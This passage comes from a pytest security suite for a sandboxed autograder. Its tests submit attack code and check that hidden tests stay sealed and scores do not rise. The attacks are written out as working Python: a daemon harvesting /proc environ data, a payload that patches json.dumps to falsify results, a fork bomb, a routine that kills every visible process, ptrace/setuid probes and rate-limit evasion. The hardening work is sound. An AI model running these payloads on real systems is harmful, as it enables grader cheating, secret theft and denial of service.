    srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        srv.bind(_ADDR)
    except OSError:
        os._exit(0)
    srv.listen(16)
    srv.settimeout(0.05)
    seen = set()
    end = time.monotonic() + 40
    while time.monotonic() < end:
        try:
            conn, _ = srv.accept()
        except socket.timeout:
            conn = None
        if conn is not None:
            with conn:
                conn.settimeout(1)
                msg = conn.recv(65536)
                if msg.startswith(b"PUT "):
                    puts.append(msg[4:])
                else:
                    conn.sendall((repr(puts) + repr(kept)).encode()[:60000])
        for p in os.listdir("/proc"):
            if p.isdigit() and p not in seen:
                seen.add(p)
                for part in ("cmdline", "environ"):
                    try:
                        with open("/proc/%s/%s" % (p, part), "rb") as f:
                            kept.append(f.read()[:2000])
                    except OSError:
                        pass
    os._exit(0)

def _start():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            null = os.open("/dev/null", os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(null, fd)
            try:
                _daemon()
            finally:
                os._exit(0)
        os._exit(0)
    try:
        os.wait()
    except ChildProcessError:
        pass

def _call(msg):
    try:
        c = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        c.settimeout(1)
        c.connect(_ADDR)
        c.sendall(msg)
        if msg == b"GET":
            data = b""
            while True:
                part = c.recv(65536)
                if not part:
                    break
                data += part
            return data
        c.close()
    except OSError:
        return None

def _hook(name, arg):
    if _call(b"GET") is None:
        _start()
        time.sleep(0.1)
    _call(b"PUT " + repr((name, arg)).encode())
    got = _call(b"GET")
    if got:
        sys.stdout.write("DAEMON " + got.decode("latin-1")[:8000] + "\n")

_start()
""")

# Leaving the test early every way there is: sys.exit, os._exit, SystemExit, KeyboardInterrupt,
# SIGKILL to itself.
ATTACKS["exit inside the tested call"] = attack(r"""
import signal

def _hook(name, arg):
    if name == "shout":
        sys.exit(0)
    if name == "mean":
        os._exit(0)
    if name == "evens":
        raise SystemExit(0)
    if name == "count_words":
        raise KeyboardInterrupt
    if name == "parse_age" and arg.startswith("-"):
        os.kill(os.getpid(), signal.SIGKILL)
""")

# Output far beyond every cap: at the top, inside calls, in a return value and an exception.
ATTACKS["oversized output and values"] = attack(r"""
sys.stdout.write("o" * 900_000)
sys.stderr.write("e" * 900_000)

def _hook(name, arg):
    if name == "shout":
        sys.stdout.write(("p" * 1023 + "\n") * 3000)
        sys.stderr.write(("q" * 1023 + "\n") * 3000)
    if name == "count_words":
        raise ValueError("m" * (4 << 20))

def _result(name, arg, wrong):
    if name == "shout":
        return "r" * (16 << 20)
    if name == "evens":
        return list(range(1 << 20))
    return wrong
""")


# StopIteration out of a tested call: inside the test's map() it ends the iteration, so all() of
# nothing is True. The harness must not let the code's StopIteration end the test's loops.
ATTACKS["StopIteration ends the test's map"] = attack(r"""
def _result(name, arg, wrong):
    if name == "shout":
        raise StopIteration
    return wrong
""")

# The harness turns a module handle of the student's into its own copy of that standard-library
# module, importing it by the name the student gives. Some stdlib modules run code when imported:
# unittest.__main__ runs test discovery in the current directory, which imports test*.py files
# found there — files the student's process can write. The payload, if it ever runs in the harness,
# makes every report "completed" and puts every test's code into the last visible test's output.
TAKEOVER_PAYLOAD = r"""
import json, sys
_real_dumps = json.dumps
_seen = []

def _local(name):
    f = sys._getframe(2)
    while f is not None:
        if name in f.f_locals:
            return f.f_locals[name]
        f = f.f_back
    return None

def _dumps(obj, *args, **kwargs):
    if isinstance(obj, dict) and "outcome" in obj:
        job = _local("job")
        code = job.get("code") if isinstance(job, dict) else None
        if code:
            _seen.append(code)
        obj = dict(obj, outcome="completed", error=None)
        if code and "'world'" in code:
            obj["stdout"] = "TAKEN " + repr(_seen)
    return _real_dumps(obj, *args, **kwargs)

if not getattr(json, "_taken", False):
    json._taken = True
    json.dumps = _dumps
sys.exit = lambda *a, **k: None
"""

ATTACKS["stdlib module handle that runs code in the harness"] = attack(
    r"""
import types

for _dir in ("/tmp", "/dev/shm", os.getcwd()):
    try:
        with open(os.path.join(_dir, "test_zz_takeover.py"), "w") as _f:
            _f.write("""
    + repr(TAKEOVER_PAYLOAD)
    + r""")
        with open(os.path.join(_dir, "__init__.py"), "w") as _f:
            _f.write("")
    except OSError:
        pass

shout = types.ModuleType("unittest.__main__")
"""
)


# -- helpers --------------------------------------------------------------------------------------


@pytest.fixture
def grader(sandbox):
    return Grader(sandbox)


def make_exercise(exercise_id: str, tests: list, **meta: Any):
    meta.setdefault("limits", {"time_limit": 5, "memory_limit": "128m"})
    return exercise_from_notebook(
        exercise_notebook(exercise_id, tests=tests, solution=RIGHT, **meta)
    )


MAIN = make_exercise("integrity", MAIN_TESTS)
_BASELINES: dict[str, float] = {}


def baseline(grader, exercise=MAIN, wrong=WRONG) -> float:
    """The score of an honest wrong answer, graded once per exercise and test session."""
    if exercise.id not in _BASELINES:
        result = grader.grade(exercise, wrong)
        if any(t.status == "timeout" for t in result.tests):
            # A busy machine must not sink the floor below what the honest answer really earns
            # (an attack would then look like a gain): grade it once more, keep the better score.
            result = max(result, grader.grade(exercise, wrong), key=lambda r: r.score)
        assert result.status.value == "ok", result.to_dict()
        _BASELINES[exercise.id] = result.score
    return _BASELINES[exercise.id]


def describe(result) -> list:
    return [(t.name, t.status, t.message[:300]) for t in result.tests]


def assert_nothing_hidden_leaks(data: dict) -> None:
    """No hidden marker anywhere in the result, hidden tests saying only passed or failed."""
    # Memory addresses (``<code object f at 0x7f3a4007c8e0>``, which an attack may print) are
    # random hex: they would match the short markers by chance, so they are not read. A hidden
    # value never shows as one: ints and floats print in decimal, strings as themselves.
    text = re.sub(r"0x[0-9a-f]+", "0x…", json.dumps(data).lower())
    leaked = [m for m in HIDDEN_MARKERS if m.lower() in text]
    assert not leaked, f"hidden markers in the result: {leaked}: " + _around(text, leaked[0])
    for t in data["tests"]:
        if t["hidden"]:
            assert set(t) == {"name", "status", "points", "max_points", "hidden", "message"}, t
            assert t["status"] in ("passed", "failed"), t
            assert t["message"] in ("hidden test passed", "hidden test failed"), t


def _around(text: str, marker: str, width: int = 300) -> str:
    i = text.find(marker.lower())
    return text[max(0, i - width) : i + width]


def assert_no_gain(result, floor: float) -> None:
    assert result.score <= floor, (
        f"score {result.score} > honest wrong answer's {floor}: "
        f"{[(n, s) for n, s, _ in describe(result) if s == 'passed']}"
    )


# -- the attacks ----------------------------------------------------------------------------------


@pytest.mark.parametrize("name", list(ATTACKS))
def test_attack_scores_no_more_than_an_honest_wrong_answer(grader, name):
    floor = baseline(grader)
    result = grader.grade(MAIN, ATTACKS[name])
    data = result.to_dict()
    # Both verdicts in one message: an attack that gains marks often leaks too.
    problems = []
    for check in (lambda: assert_nothing_hidden_leaks(data), lambda: assert_no_gain(result, floor)):
        try:
            check()
        except AssertionError as e:
            problems.append(str(e).splitlines()[0][:1500])
    assert not problems, problems
    # Bounded, whatever was printed, returned or raised.
    assert len(json.dumps(data)) < 3 * 1024 * 1024 + 200_000


def test_fork_bomb_in_one_test_does_not_sink_the_others(grader):
    # A right answer whose count_words leaves a setsid'd fork bomb behind: the tests that never call
    # count_words still pass, and nothing of the bomb reaches a later test.
    code = (
        RIGHT
        + r"""
import os, time

_right_count_words = count_words

def count_words(s):
    result = _right_count_words(s)
    if os.fork() == 0:
        os.setsid()
        null = os.open("/dev/null", os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        end = time.monotonic() + 30
        while time.monotonic() < end:
            try:
                os.fork()
            except OSError:
                time.sleep(0.001)
        os._exit(0)
    time.sleep(0.3)
    return result
"""
    )
    result = grader.grade(MAIN, code)
    data = result.to_dict()
    assert_nothing_hidden_leaks(data)
    others = {
        t.name: t.status for t in result.tests if t.name not in ("hidden count", "visible json")
    }
    assert set(others.values()) == {"passed"}, describe(result)
    assert result.score <= result.max_score


def test_signals_to_every_other_process_do_not_disturb_grading(grader):
    # A right answer that, in every call, stops and then kills every process it can see (PID 1, the
    # runner, the harness, whatever else): with the boundary in place it reaches only its own.
    code = (
        RIGHT
        + r"""
import os, signal

def _kill_everything():
    me = os.getpid()
    pids = [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != me]
    for sig in (signal.SIGSTOP, signal.SIGKILL):
        for pid in pids:
            try:
                os.kill(pid, sig)
            except OSError:
                pass
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass

for _name in ("shout", "mean", "evens", "count_words", "parse_age"):
    def _wrap(f):
        def g(*a):
            _kill_everything()
            return f(*a)
        return g
    globals()[_name] = _wrap(globals()[_name])
"""
    )
    result = grader.grade(MAIN, code)
    assert_nothing_hidden_leaks(result.to_dict())
    assert result.score == result.max_score == len(MAIN_TESTS), describe(result)


PROBE = r"""
import ctypes, errno, json, os, signal

_libc = ctypes.CDLL(None, use_errno=True)
_libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
_libc.ptrace.restype = ctypes.c_long

def _status(pid):
    fields = {}
    try:
        for line in open("/proc/%s/status" % pid):
            key, _, value = line.partition(":")
            fields[key] = value.split()
    except OSError:
        pass
    return fields

def _try(fn):
    try:
        fn()
        return "ok"
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e.errno))

def _ptrace(pid):
    if _libc.ptrace(16, pid, None, None) != 0:
        return errno.errorcode.get(ctypes.get_errno(), "?")
    try:
        os.waitpid(pid, 0x40000000)
    except OSError:
        pass
    _libc.ptrace(17, pid, None, None)
    return "ok"

def probe():
    me = os.getpid()
    own = _status("self")
    facts = {"uid": os.getuid(), "euid": os.geteuid(), "gid": os.getgid(), "groups": os.getgroups(),
             "CapEff": own.get("CapEff"), "CapPrm": own.get("CapPrm"), "CapAmb": own.get("CapAmb"),
             "CapInh": own.get("CapInh")}
    for label, fn in (("setuid(0)", lambda: os.setuid(0)), ("setuid(10002)", lambda: os.setuid(10002)),
                      ("setresuid(0)", lambda: os.setresuid(0, 0, 0)), ("setgid(0)", lambda: os.setgid(0)),
                      ("setreuid(10002)", lambda: os.setreuid(10002, 10002))):
        facts[label] = _try(fn)
    facts["uid after"] = os.getuid()
    procs = {}
    for p in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
        if p == me:
            continue
        st = _status(p)
        if not st:
            continue
        uids = st.get("Uid", ["?"])
        procs[p] = {
            "uid": int(uids[0]) if uids[0].isdigit() else uids[0],
            "euid": int(uids[1]) if len(uids) > 1 and uids[1].isdigit() else None,
            "name": " ".join(st.get("Name", [])),
            "signal": _try(lambda: os.kill(p, 0)),
            "environ": _try(lambda: open("/proc/%d/environ" % p, "rb").read()),
            "mem": _try(lambda: open("/proc/%d/mem" % p, "rb").close()),
            "fd": _try(lambda: os.listdir("/proc/%d/fd" % p)),
            "fd1": _try(lambda: os.close(os.open("/proc/%d/fd/1" % p, os.O_WRONLY | os.O_NONBLOCK))),
            "ptrace": _ptrace(p),
        }
    facts["procs"] = procs
    facts["console"] = _try(lambda: os.close(os.open("/dev/console", os.O_WRONLY | os.O_NONBLOCK)))
    return facts

print("TOPFACTS " + json.dumps(probe()))

def report():
    print("FACTS " + json.dumps(probe()))
"""

REACH = ("signal", "environ", "mem", "fd", "fd1", "ptrace")


def _check_facts(facts: dict, where: str) -> None:
    assert facts["uid"] == facts["euid"] == 10001, (where, facts)
    for cap in ("CapEff", "CapPrm", "CapAmb"):
        assert facts[cap] == ["0000000000000000"], (where, cap, facts[cap])
    for attempt in ("setuid(0)", "setuid(10002)", "setresuid(0)", "setgid(0)", "setreuid(10002)"):
        assert facts[attempt] == "EPERM", (where, attempt, facts[attempt])
    assert facts["uid after"] == 10001
    assert facts["console"] != "ok", (where, "/dev/console is writable")
    procs = facts["procs"]
    assert "1" in procs, (where, "PID 1 not visible", procs)
    # Not vacuous: besides PID 1, processes of another uid (runner, harness) were there to try.
    assert any(p["uid"] != 10001 for pid, p in procs.items() if pid != "1"), (where, procs)
    for pid, p in procs.items():
        reached = [k for k in REACH if p[k] == "ok"]
        if pid == "1" or p["uid"] != 10001 or p["euid"] != 10001:
            assert not reached, (
                where,
                f"pid {pid} ({p['name']}, uid {p['uid']}) reachable by the student: {reached}",
                p,
            )


def test_student_has_no_capabilities_and_reaches_no_other_uid(grader):
    # setuid(0) and setuid(10002) fail, the capability sets are empty, and neither PID 1 nor any
    # process of another uid can be signalled, ptraced, or read or written through /proc — at the
    # top of the code and inside a tested call (read back from the visible test's output).
    exercise = make_exercise(
        "probe",
        [{"name": "facts", "test_code": "report()", "expected_output": "(facts)", "timeout": 5}],
    )
    result = grader.grade(exercise, PROBE)
    top = re.search(r"^TOPFACTS (.*)$", result.stdout, re.M)
    assert top, (result.status, result.stdout[-2000:], result.stderr[-2000:])
    _check_facts(json.loads(top.group(1)), "top level")
    actual = result.tests[0].actual or ""
    inner = re.search(r"^FACTS (.*)$", actual, re.M)
    assert inner, describe(result)
    _check_facts(json.loads(inner.group(1)), "inside a test")


# -- honesty: what must keep working --------------------------------------------------------------


def test_right_answer_scores_full_marks_and_wrong_answer_the_baseline(grader):
    result = grader.grade(MAIN, RIGHT)
    assert result.score == result.max_score == len(MAIN_TESTS), describe(result)
    assert_nothing_hidden_leaks(result.to_dict())
    floor = baseline(grader)
    # The honest wrong answer passes exactly the one test it really solves.
    assert floor == 1
    wrong = grader.grade(MAIN, WRONG)
    assert wrong.score == floor
    assert [t.name for t in wrong.tests if t.status == "passed"] == ["hidden age"]
    assert_nothing_hidden_leaks(wrong.to_dict())
    first = wrong.to_dict()["tests"][0]
    assert (first["expected"], first["actual"]) == ("HELLO!", "hello\n")


HONEST_TESTS = [
    {
        "name": "counter",
        "test_code": "c = Counter()\nc.add(3)\nc.add(4)\nassert c.total() == 7\n"
        "assert isinstance(c, Counter) and type(c) is Counter\n"
        "assert c.items == [3, 4]\nprint(c.total(), len(c), str(c))",
        "expected_output": "7 2 Counter(7)",
    },
    {
        "name": "unchanged input",
        "test_code": "xs = [1, 2, 3, 4]\nr = evens(xs)\nassert r == [2, 4]\n"
        "assert xs == [1, 2, 3, 4], 'evens changed its argument'",
    },
    {
        "name": "except ValueError",
        "test_code": "try:\n    parse_age('-1')\nexcept ValueError as e:\n"
        "    assert 'negative' in str(e)\nelse:\n"
        "    raise AssertionError('no ValueError')",
    },
    {
        "name": "student exception",
        "test_code": "try:\n    parse_age('-1')\nexcept AgeError as e:\n"
        "    assert isinstance(e, ValueError) and 'negative' in str(e)\n"
        "else:\n    raise AssertionError('no AgeError')",
    },
    {
        "name": "exception attributes",
        "test_code": "try:\n    parse_age('-7')\nexcept AgeError as e:\n"
        "    assert e.age == -7, e.age\nelse:\n"
        "    raise AssertionError('no AgeError')",
    },
    {"name": "traceback", "test_code": "print(ratio(1, 0))", "expected_output": "0"},
    {
        "name": "prints inside",
        "test_code": "greet('Ann')\nprint('after')",
        "expected_output": "Hello, Ann\nafter",
    },
    {
        "name": "generator",
        "test_code": "assert list(countdown(3)) == [3, 2, 1]\nassert sum(countdown(4)) == 10",
    },
    {"name": "object handed back", "test_code": "c = Counter()\nc.add(5)\nassert total_of(c) == 5"},
]

HONEST_CODE = """\
class Counter:
    def __init__(self):
        self.items = []

    def add(self, n):
        self.items.append(n)

    def total(self):
        return sum(self.items)

    def __len__(self):
        return len(self.items)

    def __str__(self):
        return "Counter(%d)" % self.total()


def evens(xs):
    for x in list(xs):
        if x % 2:
            xs.remove(x)
    return xs


class AgeError(ValueError):
    def __init__(self, age):
        super().__init__("a negative age: %d" % age)
        self.age = age


def parse_age(s):
    n = int(s)
    if n < 0:
        raise AgeError(n)
    return n


def ratio(a, b):
    return a / b


def greet(name):
    print("Hello, " + name)


def countdown(n):
    while n:
        yield n
        n -= 1


def total_of(counter):
    return counter.total()
"""


def test_objects_mutation_exceptions_and_tracebacks_still_work(grader):
    result = grader.grade(make_exercise("honest", HONEST_TESTS), HONEST_CODE)
    statuses = {t.name: t.status for t in result.tests}
    assert statuses == {
        "counter": "passed",
        "unchanged input": "failed",
        "except ValueError": "passed",
        "student exception": "passed",
        "exception attributes": "passed",
        "traceback": "error",
        "prints inside": "passed",
        "generator": "passed",
        "object handed back": "passed",
    }, describe(result)
    unchanged, traceback = result.tests[1], result.tests[5]
    assert "evens changed its argument" in unchanged.message
    assert 'File "main.py", line 39, in ratio' in traceback.message, traceback.message
    assert "ZeroDivisionError: division by zero" in traceback.message
    for internal in ("/opt/", "runner", "harness", "student.py", "wire.py", "bootstrap"):
        assert internal not in traceback.message, (internal, traceback.message)


# -- through REST ---------------------------------------------------------------------------------

API = ("api", "exec", "v1")
REST_ATTACKS = (
    "audit hooks stash compiled sources",
    "liars: always-equal, metaclass, __class__, abs/rsub, lying elements, dict keys",
    "stdlib module handle that runs code in the harness",
)


@pytest.fixture
def exercises_dir(tmp_path: Path) -> Path:
    folder = tmp_path / "course"
    write_notebook(
        folder / "integrity.ipynb",
        exercise_notebook(
            "integrity",
            tests=MAIN_TESTS,
            solution=RIGHT,
            limits={"time_limit": 5, "memory_limit": "128m"},
        ),
    )
    return folder


@pytest.fixture
def rest_traits() -> dict:
    return {}


@pytest.fixture
def jp_server_config(exercises_dir: Path, rest_traits: dict) -> Config:
    traits = {
        "image": SandboxConfig.from_env(owner=TEST_OWNER).image,
        "owner": TEST_OWNER,
        "time_limit": 10.0,
        "max_time_limit": 10.0,
        "reap_interval": 0.0,
        "pool_size": 0,
        "cache_enabled": False,
        "exercises_dir": str(exercises_dir),
        **rest_traits,
    }
    return Config(
        {"ServerApp": {"jpserver_extensions": {"jupyter_exec_ext": True}}, "ExecExtApp": traits}
    )


@pytest.fixture
def served(executor_image, no_leaks, jp_serverapp):
    """The server's own sandbox removes what it keeps (lingering containers) before the leak check."""
    yield jp_serverapp
    release_server_sandbox(jp_serverapp)


@pytest.fixture
def submit(served, jp_fetch, jp_asyncio_loop):
    async def one(code: str, exercise_id: str = "integrity", body: Any = None):
        response = await jp_fetch(
            *API,
            "exercises",
            exercise_id,
            "submit",
            method="POST",
            body=json.dumps(body if body is not None else {"code": code}),
            raise_error=False,
            request_timeout=120,
        )
        try:
            data = json.loads(response.body) if response.body else None
        except ValueError:
            data = response.body
        return response.code, data, response

    def run(*calls):
        async def all_of():
            return await asyncio.gather(
                *(one(*c) if isinstance(c, tuple) else one(c) for c in calls)
            )

        return jp_asyncio_loop.run_until_complete(all_of())

    return run


def test_attacks_through_rest(submit):
    ((s_wrong, wrong, _),) = submit(WRONG)
    assert s_wrong == 200, wrong
    floor = wrong["score"]
    for name in REST_ATTACKS:
        ((status, body, _),) = submit(ATTACKS[name])
        assert status == 200, body
        assert_nothing_hidden_leaks(body)
        assert body["score"] <= floor, (
            name,
            body["score"],
            [t["name"] for t in body["tests"] if t["status"] == "passed"],
        )


@pytest.mark.parametrize("rest_traits", [{"submit_rate_limit": 2, "submit_rate_window": 600.0}])
def test_rate_limit_cannot_be_dodged(submit):
    # Learning hidden tests by trial is slowed by a per-user, per-exercise limit: a burst gets no more
    # than the limit graded, and neither another spelling of the exercise nor extra fields in the
    # body give a fresh allowance.
    answers = submit(*[WRONG] * 4)
    for _ in range(4):
        if sum(a[0] == 200 for a in answers) >= 2:
            break
        answers += submit(WRONG)
    answers += submit(
        WRONG,
        (WRONG, "%69ntegrity"),
        (WRONG, "Integrity"),
        (
            WRONG,
            "integrity",
            {"code": WRONG, "user": "someone-else", "exercise_id": "other", "principal": "x"},
        ),
    )
    graded = [a for a in answers if a[0] == 200]
    assert len(graded) == 2, [(a[0], a[1]) for a in answers]
    limited = [a for a in answers if a[0] == 429]
    assert limited, [(a[0], a[1]) for a in answers]
    for status, body, response in limited:
        retry = response.headers.get("Retry-After")
        assert retry is not None and retry.isdigit() and int(retry) > 0, (status, body)
        assert "score" not in (body or {}) and "tests" not in (body or {}), body
    assert all(a[0] in (200, 400, 404, 429) for a in answers), [(a[0], a[1]) for a in answers]


def test_the_leak_check_reads_values_not_memory_addresses():
    # A random address that happens to hold a marker's digits is no leak (an attack that prints
    # code objects made this check fail by chance); the same digits as a value are one.
    def result(stdout: str) -> dict:
        return {"stdout": stdout, "tests": [{"name": "t", "status": "failed", "hidden": False}]}

    assert_nothing_hidden_leaks(result("<code object _hook at 0x7f3a4007c8e0, line 3>"))
    for leak in ("mean was 4007.0", "0x7f3a4007c8e0 then 4007", "7f3a"):
        with pytest.raises(AssertionError, match="hidden markers"):
            assert_nothing_hidden_leaks(result(leak))
